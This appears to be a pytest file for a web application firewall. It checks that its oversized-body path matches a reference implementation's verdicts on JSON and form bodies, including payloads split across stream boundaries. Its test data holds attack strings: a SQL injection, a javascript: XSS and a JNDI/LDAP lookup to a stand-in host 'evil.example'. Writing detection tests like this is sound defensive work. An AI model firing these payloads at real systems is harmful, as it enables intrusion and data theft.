"""The oversized side lane against the benchmark's plain reference.

A body that unpacks past ``Batcher.OVERSIZE_THRESHOLD`` (16,384 B)
leaves the batched path for the side worker and the stream engine
(2,048-byte waves, automaton state carried between them).  Every verdict
it gives has to be the one ``benchmark/reference/plainwaf.py`` gives for
the same frame (attack flag, blocked flag, set of rule ids): both reroute
kinds, JSON and urlencoded bodies, the payload mid-body, at the very
tail, across a wave boundary and across a 64 KiB chunk boundary, and
stretched over either by thousands of bytes that a rule's chain deletes.
The reference shares no code with the program.

ROADMAP F1 is the named regression: the side lane used to confirm on the
unpacked copy of the body, whose url-decoded segment the confirm twin
decoded once more (two rule ids too many on a double-encoded form
payload).
"""

import random
import sys
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parent.parent
BENCH = REPO / "benchmark"
if str(BENCH) not in sys.path:
    sys.path.insert(0, str(BENCH))

from generators import body_post                              # noqa: E402
from generators.corpus import attack_payloads                 # noqa: E402
from harness.wire import Request as WireRequest               # noqa: E402
from harness.wire import encode_request                       # noqa: E402
from reference import plainwaf                                # noqa: E402

from ingress_plus_tpu.serve.batcher import Batcher            # noqa: E402
from ingress_plus_tpu.serve.stream import CHUNK_L             # noqa: E402
from ingress_plus_tpu.utils.trace import SIDE_STAGES          # noqa: E402

THRESHOLD = Batcher.OVERSIZE_THRESHOLD
CHUNK = Batcher.OVERSIZE_CHUNK
SQLI = "1' UNION SELECT card_no FROM payments--"


@pytest.fixture(scope="module")
def lane():
    """The served pack on a CPU batcher (inline confirm), warmed as the
    server's start-up warms it, and the reference's deployment."""
    from ingress_plus_tpu.compiler import compile_ruleset
    from ingress_plus_tpu.compiler.sigpack import RULES_DIR, load_bundled_rules
    from ingress_plus_tpu.models.pipeline import DetectionPipeline

    cr = compile_ruleset(load_bundled_rules(), base_path=RULES_DIR / "crs")
    batcher = Batcher(DetectionPipeline(cr, mode="block"), max_batch=8,
                      hard_deadline_s=60.0)
    batcher.stream_engine.warm()
    dep = plainwaf.Deployment(BENCH / "rules" / "crs",
                              BENCH / "rules" / "sigpack.json")
    yield batcher, dep
    batcher.close()


def build(size: int, ctype: str, payload: str, where: str) -> WireRequest:
    """`generators/body_post.py _body` with the payload's place chosen:
    "mid", "tail", or a byte offset the payload has to straddle."""
    rng = random.Random(size)
    if ctype == "json":
        enc, sep = body_post._json_escape, " "
        head, tail = '{"title": "note", "text": "', '"}'
        content_type = "application/json"
    else:
        enc, sep = body_post.quote_plus, "+"
        head, tail = "rating=5&comment=", ""
        content_type = "application/x-www-form-urlencoded"
    mark = enc(payload)
    room = size - len(head) - len(tail) - len(mark)
    text = enc(body_post._filler(rng, room))[:room]
    while text and (text[-1] in "%\\" or text[-2:-1] == "%"):
        text = text[:-1]
    text += "x" * (room - len(text))
    if where == "tail":
        cut = room
    else:
        at = room // 2 if where == "mid" else where - len(head) - 4
        cut = max(text.rfind(sep, 0, at), 0) if mark else at
    body = (head + text[:cut] + mark + text[cut:] + tail).encode()
    assert len(body) == size
    if mark and not isinstance(where, str):
        start = len(head) + cut
        assert start < where < start + len(mark), "payload misses %d" % where
    return WireRequest(method="POST", uri="/api/v1/comments", headers={
        "host": "shop.example.com", "user-agent": "curl/8.4.0",
        "accept": "*/*", "content-length": str(size),
        "content-type": content_type}, body=body)


def served_and_reference(lane, wire_request: WireRequest, req_id: int = 7):
    from ingress_plus_tpu.serve.protocol import decode_request

    batcher, dep = lane
    frame = encode_request(wire_request, req_id=req_id)
    _id, mode, req = decode_request(frame[8:])
    req.mode = mode
    v = batcher.submit(req).result(timeout=300)
    assert not v.fail_open
    _idx, request = plainwaf.decode_frame(frame)
    want = plainwaf.verdict(dep, request)
    return ((bool(v.attack), bool(v.blocked),
             sorted(int(r) for r in v.rule_ids)),
            (want[0], want[1], sorted(want[2])))


# unpack: the body is under the threshold and unpacks past it (JSON:
# body + extracted strings; form: body + its url-decoded copy); raw: the
# body itself is over it
SIZES = {"unpack": 11_000, "raw": 21_000}
PLACES = {"mid": "mid", "tail": "tail", "wave": 3 * CHUNK_L}


@pytest.mark.parametrize("where", sorted(PLACES))
@pytest.mark.parametrize("ctype", ["json", "form"])
@pytest.mark.parametrize("kind", sorted(SIZES))
def test_side_lane_verdict_equals_the_reference(lane, kind, ctype, where):
    batcher, _dep = lane
    payload = attack_payloads()[
        (sorted(PLACES).index(where) * 7 + len(ctype)) % len(attack_payloads())]
    before = dict(batcher.stats.oversized_requests)
    have, want = served_and_reference(
        lane, build(SIZES[kind], ctype, payload, PLACES[where]))
    assert batcher.stats.oversized_requests[kind] == before[kind] + 1
    assert want[0], "the reference calls %r no attack" % payload
    assert have == want


@pytest.mark.parametrize("ctype", ["json", "form"])
def test_payload_across_a_64k_chunk_boundary(lane, ctype):
    """The side lane feeds the stream 64 KiB at a time; the automaton
    and the decoders' tails carry across that boundary too."""
    have, want = served_and_reference(
        lane, build(CHUNK + 6_000, ctype, SQLI, CHUNK))
    assert want[0] and have == want


# a rule whose chain deletes bytes (``t:removeWhitespace``) matches its
# keywords however far apart they lie: the scan's squash variants drop
# every whitespace byte, so the factor (``unionselect``) is found only
# if the automaton's state is carried over ALL the bytes in between
STRETCHED = {942270: "1' UNION%sSELECT card_no FROM payments--",
             941110: "javascript%s:alert(1)",
             932191: "${jndi%s:ldap://evil.example/a}"}


@pytest.mark.parametrize("place", ["wave", "chunk"])
@pytest.mark.parametrize("ctype", ["json", "form"])
@pytest.mark.parametrize("rule_id", sorted(STRETCHED))
def test_payload_stretched_by_deletable_bytes_over_a_boundary(
        lane, rule_id, ctype, place):
    """2,500 spaces (``+`` urlencoded) between a payload's two halves:
    more than a whole wave of bytes the squash variants delete, laid
    over a wave boundary and over a 64 KiB chunk boundary."""
    size, at = {"wave": (21_000, 3 * CHUNK_L),
                "chunk": (CHUNK + 6_000, CHUNK)}[place]
    have, want = served_and_reference(
        lane, build(size, ctype, STRETCHED[rule_id] % (" " * 2_500), at))
    assert rule_id in want[2]
    assert have == want


@pytest.mark.parametrize("size", [8_800, 13_000, 24_000, 40_000])
@pytest.mark.parametrize("ctype", ["json", "form"])
def test_benign_bodies_of_8_to_40_kb(lane, ctype, size):
    batcher, _dep = lane
    n = batcher.stats.oversized_rerouted
    have, want = served_and_reference(lane, build(size, ctype, "", "mid"))
    assert batcher.stats.oversized_rerouted == n + 1
    assert not want[0] and have == want


@pytest.mark.parametrize("seed", [2**31 + 34, 34])
def test_seeded_body_post_pool_has_no_differing_verdict(lane, seed):
    """The generator's own bodies, as the cell's mix makes them, at an
    attack share that meets payloads and placements of its table."""
    reqs = body_post.generate(seed, 10, {"min_body": 8_000,
                                         "max_body": 40_000,
                                         "attack_fraction": 0.6})
    attacks = 0
    for i, r in enumerate(reqs):
        have, want = served_and_reference(lane, r, req_id=i)
        assert have == want, "pool entry %d (%d B, %s)" % (
            i, len(r.body), r.headers["content-type"])
        attacks += want[0]
    assert attacks >= 4


def test_f1_double_encoded_union_select_form_body(lane):
    """ROADMAP F1 / PERF.md §7 "First": pool entry 677 of seed
    2147484004 in the 12 KiB `body_post` mix, a 10,871 B urlencoded body
    carrying `1%2527%2520UNION%2520SELECT...`; the side lane answered
    942578 and 942900 beside the reference's five rule ids."""
    r = body_post.generate(2147484004, 1024, {
        "min_body": 1024, "max_body": 12288, "attack_fraction": 0.02})[677]
    assert len(r.body) == 10_871
    assert b"1%2527%2520UNION%2520SELECT%2520card_no" in r.body
    have, want = served_and_reference(lane, r, req_id=677)
    assert want == (True, True, [920370, 942100, 942101, 942240, 942270])
    assert have == want


def test_warm_leaves_no_wave_compile_for_the_first_oversized_request(lane):
    from ingress_plus_tpu.ops.scan import scan_bytes_jit

    batcher, _dep = lane
    assert batcher.stream_engine.warmed
    compiled = scan_bytes_jit._cache_size()
    waves = batcher.stream_engine.waves
    served_and_reference(lane, build(30_000, "form", SQLI, "mid"))
    assert batcher.stream_engine.waves > waves
    assert scan_bytes_jit._cache_size() == compiled


def test_start_up_warms_the_stream_engine(monkeypatch):
    """`build_default_batcher(warmup=True)` compiles the wave shapes
    after the batched grid (which is stubbed out here: minutes on CPU)."""
    from ingress_plus_tpu.serve import server
    from ingress_plus_tpu.serve.stream import StreamEngine

    warmed = []
    monkeypatch.setattr(server, "warmup_pipeline", lambda p, n: None)
    monkeypatch.setattr(StreamEngine, "warm",
                        lambda self: warmed.append(self) or 3)
    b = server.build_default_batcher(max_batch=8, warmup=True)
    try:
        assert warmed == [b.stream_engine]
    finally:
        b.close()


def test_four_oversized_in_flight_shed_nothing(lane):
    """One tenant may hold four of the side lane's eight slots."""
    from ingress_plus_tpu.serve.protocol import decode_request

    batcher, dep = lane
    shed0 = dict(batcher.pipeline.stats.shed)
    fail0 = batcher.pipeline.stats.fail_open
    frames = [encode_request(build(18_000 + 500 * i, "json", "", "mid"),
                             req_id=i) for i in range(4)]
    futs = []
    for frame in frames:
        _id, mode, req = decode_request(frame[8:])
        req.mode = mode
        futs.append(batcher.submit(req))
    verdicts = [f.result(timeout=300) for f in futs]
    assert not any(v.fail_open for v in verdicts)
    assert dict(batcher.pipeline.stats.shed) == shed0
    assert batcher.pipeline.stats.fail_open == fail0
    assert batcher.pipeline.load_controller.level == 0


COUNTERS = ('ipt_oversized_rerouted_total{kind="raw"}',
            'ipt_oversized_rerouted_total{kind="unpack"}',
            'ipt_oversized_bytes_total{kind="raw"}',
            'ipt_oversized_bytes_total{kind="unpack"}',
            "ipt_stream_waves_total", "ipt_stream_wave_rows_total",
            "ipt_stream_wave_bytes_total")


@pytest.fixture(scope="module")
def exposition(lane):
    from ingress_plus_tpu.serve.server import ServeLoop

    batcher, _dep = lane
    for size in (12_000, 20_000):          # one of each kind, at least
        served_and_reference(lane, build(size, "form", "", "mid"))
    text = ServeLoop(batcher, socket_path="/tmp/ipt-side-lane.sock"
                     )._metrics_text()
    return {ln.rsplit(" ", 1)[0]: float(ln.rsplit(" ", 1)[1])
            for ln in text.splitlines() if ln and not ln.startswith("#")}


@pytest.mark.parametrize("series", COUNTERS)
def test_side_lane_counter_is_on_metrics(exposition, series):
    assert exposition[series] > 0


@pytest.mark.parametrize("stage", SIDE_STAGES)
def test_side_lane_stage_is_on_metrics(lane, exposition, stage):
    batcher, _dep = lane
    n = exposition['ipt_stage_us_count{stage="%s"}' % stage]
    assert n == batcher.stats.oversized_rerouted > 0
    assert exposition['ipt_stage_us_sum{stage="%s"}' % stage] > 0


def test_wave_counters_count_live_rows_and_their_bytes(lane):
    """One benign JSON body: the scan stream (body + separator +
    extracted copy) goes through as one sequence, so the waves are its
    2,048-byte steps; a wave carries one live row per distinct variant,
    identical ones scanned once, never a padding row."""
    from ingress_plus_tpu.compiler.ruleset import VARIANTS
    from ingress_plus_tpu.serve.unpack import unpack_body

    batcher, _dep = lane
    eng = batcher.stream_engine
    w0, r0, b0 = eng.waves, eng.wave_rows, eng.wave_bytes
    req = build(20_000, "json", "", "mid")
    served_and_reference(lane, req)
    scanned = unpack_body(req.body, req.headers)
    assert THRESHOLD < len(scanned) <= CHUNK
    assert eng.waves - w0 == -(-len(scanned) // CHUNK_L)
    assert (eng.waves - w0 <= eng.wave_rows - r0
            <= len(VARIANTS) * (eng.waves - w0))
    assert len(scanned) <= eng.wave_bytes - b0 <= len(VARIANTS) * len(scanned)
